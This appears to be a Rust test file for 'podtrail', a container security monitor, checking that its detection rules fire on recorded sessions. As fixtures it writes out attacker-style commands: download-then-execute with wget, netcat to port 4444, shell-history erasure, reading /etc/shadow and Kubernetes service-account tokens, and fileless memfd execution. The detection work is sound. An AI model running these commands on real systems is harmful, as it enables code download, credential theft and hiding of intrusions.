//! Each shipped rule (rules/default.yaml) on a recorded session that must fire it, and on a
//! close one that must not.

mod support;

use podtrail::capture::event::{FileOp, Transport};
use podtrail::model::*;
use podtrail::scope::ScopeConfig;
use support::rules::*;
use support::sessions::*;

/// A session rooted in `root` (pid 100) with `children` (pids 101..), each forked from the
/// root and ended in order.
fn session(kind: SessionKind, root: ImageRecord, children: Vec<ImageRecord>) -> Vec<SessionUpdate> {
    let mut i = info(100, kind, 10 * S, None);
    i.root_argv = root.argv.to_vec();
    i.root_tty = root.tty;
    let mut out = vec![SessionUpdate::Started(i.clone().into())];
    for (n, c) in children.into_iter().enumerate() {
        let pid = 101 + n as u32;
        let t = c.start_ns;
        out.push(SessionUpdate::ProcessEnded(i.clone().into(), process(pid, Some(100), t, t + S / 2, 0, vec![c])));
    }
    let mut end = i.clone();
    end.end_ns = Some(90 * S);
    out.push(SessionUpdate::Ended(end.into(), vec![process(100, None, 10 * S, 90 * S, 0, vec![root])]));
    out
}

fn sh(tty: bool) -> ImageRecord {
    let mut i = image(0, 10 * S, "/bin/busybox", &["sh"]);
    i.tty = tty;
    i
}

fn cmd(at: u64, exe: &str, argv: &[&str]) -> ImageRecord {
    image(0, at * S, exe, argv)
}

const SHELL: &str = "Terminal shell in a container";

#[test]
fn terminal_shell_fires_on_the_interactive_root_shell_only() {
    let spans =
        Run::default().spans(session(SessionKind::Exec, sh(true), vec![cmd(11, "/bin/busybox", &["sh", "-c", "id"])]));
    assert_eq!(fired_on(&spans, SHELL), ["sh"], "{:?}", fired(&spans));
    assert_eq!(
        spans.iter().filter(|s| s.events.iter().any(|e| e.name == "alert")).count(),
        1,
        "the nested shell with the same tty does not fire again"
    );

    let mut no_tty = sh(false);
    no_tty.argv = vec![b"sh".to_vec(), b"-c".to_vec(), b"cat /etc/os-release".to_vec()].into();
    let spans = Run::default().spans(session(SessionKind::Exec, no_tty, vec![]));
    assert!(fired_on(&spans, SHELL).is_empty(), "a shell without a tty is not a terminal: {:?}", fired(&spans));
    let mut top = cmd(10, "/usr/bin/top", &["top"]);
    top.tty = true;
    let spans = Run::default().spans(session(SessionKind::Exec, top, vec![]));
    assert!(fired_on(&spans, SHELL).is_empty(), "a tty but no shell");
}

#[test]
fn packet_capture_fires_on_tcpdump_and_tshark_not_on_their_names_in_arguments() {
    let spans = Run::default().spans(session(
        SessionKind::Exec,
        sh(false),
        vec![
            cmd(11, "/usr/bin/tcpdump", &["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"]),
            // argv[0] renamed: the executable still says what it is
            cmd(12, "/usr/bin/tshark", &["[kworker/0:1]", "-i", "eth0"]),
            cmd(13, "/bin/busybox", &["cat", "tcpdump.txt"]),
        ],
    ));
    assert_eq!(
        fired_on(&spans, "Packet capture"),
        ["tcpdump", "0:1]"],
        "the span is named by basename(argv[0]): {:?}",
        fired(&spans)
    );
}

#[test]
fn download_then_execute_needs_the_exec_of_the_written_file() {
    let mut wget = cmd(11, "/bin/busybox", &["wget", "-O", "/tmp/tool", "http://203.0.113.9/tool"]);
    wget.files = vec![file(11 * S + 5, FileOp::Open, "/tmp/tool", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
    let tool = cmd(13, "/tmp/tool", &["./tool", "--listen"]);
    let spans = Run::default().spans(session(SessionKind::Exec, sh(false), vec![wget.clone(), tool]));
    assert_eq!(fired_on(&spans, "Download then execute"), ["tool"], "{:?}", fired(&spans));

    // the same download, nothing run from it; and a program from the image
    let spans =
        Run::default().spans(session(SessionKind::Exec, sh(false), vec![wget, cmd(13, "/bin/ls", &["ls", "/tmp"])]));
    assert!(fired_on(&spans, "Download then execute").is_empty(), "{:?}", fired(&spans));
}

#[test]
fn fileless_exec_fires_on_memfd_images() {
    let mut m = cmd(11, "/memfd:payload (deleted)", &["payload"]);
    m.fileless = true;
    let spans = Run::default().spans(session(SessionKind::Exec, sh(false), vec![m, cmd(12, "/bin/true", &["true"])]));
    assert_eq!(fired_on(&spans, "Fileless execution"), ["payload"]);
}

#[test]
fn history_tampering_fires_on_every_way_of_erasing_and_not_on_the_shell_appending() {
    let mut rm = cmd(11, "/bin/busybox", &["rm", ".bash_history"]);
    rm.files = vec![file(11 * S, FileOp::Unlink, "/root/.bash_history", None, false, 0)];
    let mut ln = cmd(12, "/bin/busybox", &["ln", "-sf", "/dev/null", "/root/.ash_history"]);
    ln.files = vec![file(12 * S, FileOp::Symlink, "/dev/null", Some("/root/.ash_history"), false, 0)];
    let mut trunc = cmd(13, "/bin/busybox", &["truncate", "-s0", "/home/a/.zsh_history"]);
    trunc.files = vec![file(13 * S, FileOp::Truncate, "/home/a/.zsh_history", None, true, 0)];
    let mut redirect = sh(false);
    redirect.start_ns = 14 * S;
    redirect.inherited = true; // `> ~/.bash_history` in a subshell: open with O_TRUNC
    redirect.files = vec![file(14 * S, FileOp::Open, "/root/.bash_history", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
    let mut mv = cmd(15, "/bin/busybox", &["mv", "/root/.sh_history", "/tmp/h"]);
    mv.files = vec![file(15 * S, FileOp::Rename, "/root/.sh_history", Some("/tmp/h"), false, 0)];
    let spans = Run::default().spans(session(SessionKind::Exec, sh(false), vec![rm, ln, trunc, redirect, mv]));
    assert_eq!(
        fired_on(&spans, "Shell history tampering"),
        ["rm", "ln", "truncate", "sh", "mv"],
        "{:?}",
        fired(&spans)
    );
    let rm_span = spans.iter().find(|s| s.name == "rm").unwrap();
    let alert = rm_span.events.iter().find(|e| e.name == "alert").unwrap();
    assert!(alert
        .attributes
        .iter()
        .any(|kv| kv.key.as_str() == "file.path" && kv.value.to_string() == "/root/.bash_history"));
    assert!(rm_span.events.iter().any(|e| e.name == "file unlink"), "the file operation is an event of its own too");

    // the shell appending to its history, reading it, and a file that only looks alike
    let mut bash = sh(false);
    bash.files = vec![
        file(20 * S, FileOp::Open, "/root/.bash_history", None, true, O_WRONLY | O_APPEND),
        file(21 * S, FileOp::Open, "/root/.bash_history", None, false, 0),
    ];
    let mut rm_bak = cmd(22, "/bin/busybox", &["rm", "/root/.bash_history.bak"]);
    rm_bak.files = vec![file(22 * S, FileOp::Unlink, "/root/.bash_history.bak", None, false, 0)];
    let spans = Run::default().spans(session(SessionKind::Exec, bash, vec![rm_bak]));
    assert!(fired_on(&spans, "Shell history tampering").is_empty(), "{:?}", fired(&spans));
}

#[test]
fn unattributed_exec_fires_only_when_a_source_could_have_attributed_it() {
    let updates = || session(SessionKind::Exec, sh(false), vec![cmd(11, "/bin/ls", &["ls"])]);
    let rule = "Exec without a Kubernetes request";
    let spans = Run { attribution_configured: true, ..Run::default() }.spans(updates());
    assert_eq!(fired_on(&spans, rule), ["sh"], "once, on the session's root process");
    let spans = Run { attribution_configured: true, who: Some(alice()), ..Run::default() }.spans(updates());
    assert!(fired_on(&spans, rule).is_empty(), "alice's kubectl exec is behind it");
    let spans = Run::default().spans(updates());
    assert!(fired_on(&spans, rule).is_empty(), "no audit source configured: every session would be unattributed");
}

#[test]
fn node_user_entering_a_container_fires_on_the_nsenter_session() {
    let spans = Run { attribution_configured: true, ..Run::default() }.spans(nsenter_session());
    assert_eq!(fired_on(&spans, "Node user entered a container"), ["nsenter"], "{:?}", fired(&spans));
    assert!(fired_on(&spans, "Exec without a Kubernetes request").is_empty(), "a node session has its own rule");
    let spans = Run { attribution_configured: true, who: Some(alice()), ..Run::default() }.spans(shell_session());
    assert!(fired_on(&spans, "Node user entered a container").is_empty());
}

#[test]
fn outbound_connect_fires_outside_the_configured_cluster_ranges() {
    let scope = ScopeConfig {
        pod_cidrs: vec!["10.244.0.0/16".parse().unwrap()],
        service_cidrs: vec!["10.96.0.0/12".parse().unwrap()],
        ..Default::default()
    };
    let mut curl = cmd(11, "/usr/bin/curl", &["curl", "http://10.244.1.5/", "https://93.184.216.34/"]);
    curl.connects = vec![
        connect(11 * S + 1, Transport::Udp, "10.96.0.10", 53, ConnectOutcome::Connected, None, false),
        connect(11 * S + 2, Transport::Udp, "8.8.8.8", 53, ConnectOutcome::Connected, None, false),
        connect(11 * S + 3, Transport::Tcp, "10.244.1.5", 80, ConnectOutcome::Connected, None, false),
        connect(11 * S + 4, Transport::Tcp, "::ffff:93.184.216.34", 443, ConnectOutcome::Refused, Some(-111), false),
    ];
    let spans = Run { scope, ..Run::default() }.spans(session(SessionKind::Exec, sh(false), vec![curl]));
    assert_eq!(
        fired_on(&spans, "Outbound connection outside the cluster"),
        ["connect 93.184.216.34:443"],
        "{:?}",
        fired(&spans)
    );
}

#[test]
fn sensitive_file_reads_fire_on_shadow_and_tokens_not_on_passwd() {
    let mut cat = cmd(11, "/bin/busybox", &["cat", "/etc/shadow"]);
    cat.files = vec![file(11 * S, FileOp::Open, "/etc/shadow", None, false, 0)];
    let mut tok = cmd(12, "/bin/busybox", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    tok.files = vec![file(
        12 * S,
        FileOp::Open,
        "/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token",
        None,
        false,
        0,
    )];
    let mut pw = cmd(13, "/bin/busybox", &["cat", "/etc/passwd", "/etc/shadow-"]);
    pw.files = vec![
        file(13 * S, FileOp::Open, "/etc/passwd", None, false, 0),
        file(13 * S, FileOp::Open, "/etc/shadow-", None, false, 0),
    ];
    let spans = Run::default().spans(session(SessionKind::Exec, sh(false), vec![cat, tok, pw]));
    let hits: Vec<String> = spans
        .iter()
        .flat_map(|s| s.events.iter().filter(|e| e.name == "alert"))
        .flat_map(|e| e.attributes.iter().filter(|kv| kv.key.as_str() == "file.path").map(|kv| kv.value.to_string()))
        .collect();
    assert_eq!(hits, ["/etc/shadow", "/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token"]);
}

#[test]
fn the_root_counts_alerts_and_carries_the_highest_severity() {
    let mut root = sh(true);
    root.files = vec![file(30 * S, FileOp::Unlink, "/root/.bash_history", None, false, 0)];
    let spans = Run::default().spans(session(SessionKind::Exec, root, vec![cmd(11, "/usr/bin/tcpdump", &["tcpdump"])]));
    assert_eq!(root_attr(&spans, "podtrail.alerts.count").as_deref(), Some("3"));
    assert_eq!(root_attr(&spans, "podtrail.alerts.max_severity").as_deref(), Some("high"));
    let rules = root_attr(&spans, "podtrail.alerts.rules").unwrap();
    for r in ["Packet capture", "Shell history tampering", SHELL] {
        assert!(rules.contains(r), "{rules}");
    }
    let quiet = Run::default().spans(session(SessionKind::Exec, sh(false), vec![cmd(11, "/bin/ls", &["ls"])]));
    assert!(fired(&quiet).is_empty() && root_attr(&quiet, "podtrail.alerts.count").is_none());
}

#[test]
fn an_alert_whose_span_was_capped_goes_on_the_root() {
    // the span cap is 1: only the first child's span is built; tcpdump's alert must not vanish
    let updates = session(
        SessionKind::Exec,
        sh(false),
        vec![cmd(11, "/bin/ls", &["ls"]), cmd(12, "/usr/bin/tcpdump", &["tcpdump"])],
    );
    let spans = {
        use podtrail::rules::*;
        use podtrail::spans::*;
        use std::sync::Arc;
        let rules = RuleSource::load(RulesConfig::default()).unwrap().0.rules();
        let clock = podtrail::clock::BootClock::fixed(EPOCH);
        let cfg = SpansConfig { max_spans_per_session: 1, max_kept_spans_per_session: 1, ..SpansConfig::default() };
        // no room past the cap (the second cap is the first): nothing is kept for its alert
        let mut alerts = AlertStage::new(BOOT, clock, ScopeConfig::default(), false).keeping(0);
        let mut stage = SpanStage::new(BuildCtx::new(BOOT, clock, cfg), Arc::new(NoAttributor)).with_records();
        let mut spans = Vec::new();
        for u in link_parent_images(updates) {
            let mut out = Output::default();
            stage.update(u, std::time::Instant::now(), &mut out);
            alerts.annotate(&rules, &mut out);
            spans.extend(out.spans.into_iter().map(|(_, b)| b.span));
        }
        spans
    };
    assert!(!spans.iter().any(|s| s.name == "tcpdump"), "capped");
    assert_eq!(fired_on(&spans, "Packet capture"), ["exec"], "on the root: {:?}", fired(&spans));
    assert_eq!(root_attr(&spans, "podtrail.alerts.count").as_deref(), Some("1"));
}

fn attr(s: &opentelemetry_sdk::trace::SpanData, key: &str) -> Option<String> {
    s.attributes.iter().find(|kv| kv.key.as_str() == key).map(|kv| kv.value.to_string())
}

/// A long-lived process (it never exits before the checks) connects outside the cluster and
/// truncates a shell history: each alert leaves as an `alert` span with the update that said
/// it, not with the process's end; the end adds the events on their spans and raises nothing
/// twice.
#[test]
fn connect_and_file_alerts_of_a_live_process_are_raised_as_they_happen_and_once() {
    use support::events::*;
    const OUTBOUND: &str = "Outbound connection outside the cluster";
    const HISTORY: &str = "Shell history tampering";
    let mut t = tracker();
    let mut updates = start_container_c(&mut t);
    updates.extend(runc_exec(&mut t, 100, 1090, &["sh"]));
    updates.extend(t.handle(&fork(110, 1091, 1090, C)));
    updates.extend(t.handle(&exec_in(111, 1091, 1090, &["nc", "203.0.113.5", "4444"])));
    let net_at = updates.len();
    updates.extend(t.handle(&connect_to(120, 1091, C, 41, Transport::Tcp, "203.0.113.5", 4444)));
    updates.extend(t.handle(&history_truncate(130, 1091)));
    let file_at = updates.len() - 1;
    assert!(matches!(updates[net_at], SessionUpdate::Live(_, _, Live::Net { index: 0 })), "{:?}", updates[net_at]);
    assert!(matches!(updates[file_at], SessionUpdate::Live(_, _, Live::File)), "{:?}", updates[file_at]);
    updates.extend(t.handle(&exit(200, 1091, C, 0)));
    updates.extend(t.handle(&exit(210, 1090, C, 0)));
    let n = updates.len();
    let steps = Run::default().steps(updates);
    let alert_spans = |i: usize| -> Vec<String> {
        steps[i].iter().filter(|s| s.name == "alert").filter_map(|s| attr(s, "security_rule.name")).collect()
    };
    assert_eq!(alert_spans(net_at), [OUTBOUND], "raised with the connect, before nc ended");
    assert_eq!(alert_spans(file_at), [HISTORY], "raised with the truncation, before nc ended");
    let all: Vec<_> = steps.concat();
    assert_eq!(all.iter().filter(|s| s.name == "alert").count(), 2, "nothing raised twice: {:?}", fired(&all));
    let about = |rule: &str| {
        let s =
            all.iter().find(|s| s.name == "alert" && attr(s, "security_rule.name").as_deref() == Some(rule)).unwrap();
        assert_eq!(attr(s, "process.pid").as_deref(), Some("1091"));
        attr(s, "podtrail.alert.span_id").expect("names the span it is about")
    };
    // the events land on the spans built at the end, which the alert spans name
    let connect = all.iter().find(|s| label(s) == "connect 203.0.113.5:4444").expect("the connect span");
    assert_eq!(about(OUTBOUND), connect.span_context.span_id().to_string());
    assert_eq!(fired_on(&all, OUTBOUND), ["connect 203.0.113.5:4444"]);
    let nc = all.iter().find(|s| s.name == "nc").expect("nc's span");
    assert_eq!(about(HISTORY), nc.span_context.span_id().to_string());
    assert_eq!(fired_on(&all, HISTORY), ["nc"]);
    assert!(steps[..n].iter().flatten().any(|s| s.name == "nc"));
    assert_eq!(root_attr(&all, "podtrail.alerts.count").as_deref(), Some("2"));
    assert_eq!(root_attr(&all, "podtrail.alerts.max_severity").as_deref(), Some("high"));
}

/// Issue 18: fifty decoy commands past a span cap of ten, then the payload: the payload's span
/// is kept for its alert (the second cap's room is two), with the alert event on it; every
/// decoy past the cap is dropped and counted on the root by kind, and what was kept for its
/// alert is counted as kept over the cap, not as capped.
#[test]
fn past_the_span_cap_a_span_that_raised_an_alert_is_still_kept() {
    let mut decoys: Vec<ImageRecord> =
        (0..50).map(|i| cmd(11, "/bin/busybox", &["echo", &format!("decoy-{i}")])).collect();
    for (i, d) in decoys.iter_mut().enumerate() {
        d.start_ns = 11 * S + i as u64 * 1_000;
    }
    decoys.push(cmd(12, "/bin/busybox", &["tcpdump", "-i", "any"]));
    let run = Run {
        tune: Some(|c| {
            c.max_spans_per_session = 10;
            c.max_kept_spans_per_session = 12;
        }),
        ..Run::default()
    };
    let spans = run.spans(session(SessionKind::Exec, sh(false), decoys));
    assert_eq!(fired_on(&spans, "Packet capture"), ["tcpdump"], "the event on its own span: {:?}", fired(&spans));
    let exported = spans.iter().filter(|s| s.name == "echo").count() as u64;
    assert!(exported < 50, "the cap dropped decoys");
    let int = |k: &str| root_attr(&spans, k).map(|v| v.parse::<u64>().unwrap()).unwrap_or(0);
    assert_eq!(int("podtrail.session.spans_capped.process"), 50 - exported, "each dropped decoy counted by kind");
    assert_eq!(int("podtrail.session.spans_capped"), 50 - exported);
    assert_eq!(int("podtrail.session.spans_kept_over_cap"), 1, "the payload, kept for its alert");
    assert_eq!(root_attr(&spans, "podtrail.alerts.count").as_deref(), Some("1"));

    // a second payload past the room (two kept: the third goes on the root)
    let mut decoys: Vec<ImageRecord> =
        (0..50).map(|i| cmd(11, "/bin/busybox", &["echo", &format!("decoy-{i}")])).collect();
    for (i, d) in decoys.iter_mut().enumerate() {
        d.start_ns = 11 * S + i as u64 * 1_000;
    }
    for i in 0..3 {
        decoys.push(cmd(12 + i, "/bin/busybox", &["tcpdump", &format!("-c{i}")]));
    }
    let run = Run {
        tune: Some(|c| {
            c.max_spans_per_session = 10;
            c.max_kept_spans_per_session = 12;
        }),
        ..Run::default()
    };
    let spans = run.spans(session(SessionKind::Exec, sh(false), decoys));
    assert_eq!(fired_on(&spans, "Packet capture").len(), 3, "{:?}", fired(&spans));
    assert_eq!(spans.iter().filter(|s| s.name == "tcpdump").count(), 2, "kept up to the room");
    assert_eq!(int_of(&spans, "podtrail.session.spans_kept_over_cap"), 2);
    let on_root = fired(&spans).into_iter().filter(|(s, _)| s == "exec").count();
    assert_eq!(on_root, 1, "the third on the root");
}

fn int_of(spans: &[opentelemetry_sdk::trace::SpanData], k: &str) -> u64 {
    root_attr(spans, k).map(|v| v.parse::<u64>().unwrap()).unwrap_or(0)
}

/// The rules stage's memory for live alerts is bounded: five live processes each make 1 024
/// connects outside the cluster (an image's most records), 5 120 alerts; the first 4 096 leave
/// as `alert` spans at once, the rest with their processes' final records, and each is counted
/// once with its event on its connect span.
#[test]
fn live_alerts_past_the_sessions_bound_wait_for_the_final_record_and_count_once() {
    use support::events::*;
    const OUTBOUND: &str = "Outbound connection outside the cluster";
    let mut t = tracker();
    let mut updates = start_container_c(&mut t);
    updates.extend(runc_exec(&mut t, 100, 1090, &["sh"]));
    let mut ts = 1_000;
    for p in 0..5u32 {
        updates.extend(t.handle(&fork(ts, 1091 + p, 1090, C)));
        updates.extend(t.handle(&exec_in(ts + 1, 1091 + p, 1090, &["nc"])));
        ts += 10;
    }
    let mut cookie = 1;
    for p in 0..5u32 {
        for i in 0..1024u16 {
            ts += 1;
            cookie += 1;
            updates.extend(t.handle(&connect_to(ts, 1091 + p, C, cookie, Transport::Tcp, "203.0.113.5", 1 + i)));
        }
    }
    let live_end = updates.len();
    for p in 0..5u32 {
        updates.extend(t.handle(&exit(ts + 100 + p as u64, 1091 + p, C, 0)));
    }
    updates.extend(t.handle(&exit(ts + 200, 1090, C, 0)));
    let steps = Run::default().steps(updates);
    let alert_spans =
        |s: &[Vec<opentelemetry_sdk::trace::SpanData>]| s.iter().flatten().filter(|s| s.name == "alert").count();
    assert_eq!(alert_spans(&steps[..live_end]), 4_096, "raised at once up to the bound");
    let all = steps.concat();
    assert_eq!(alert_spans(&steps), 4_096, "the rest not as alert spans later");
    assert_eq!(fired_on(&all, OUTBOUND).len(), 5_120, "every alert an event on its connect span");
    assert!(fired_on(&all, OUTBOUND).iter().all(|s| s.starts_with("connect 203.0.113.5:")));
    assert_eq!(root_attr(&all, "podtrail.alerts.count").as_deref(), Some("5120"), "each counted once");
}
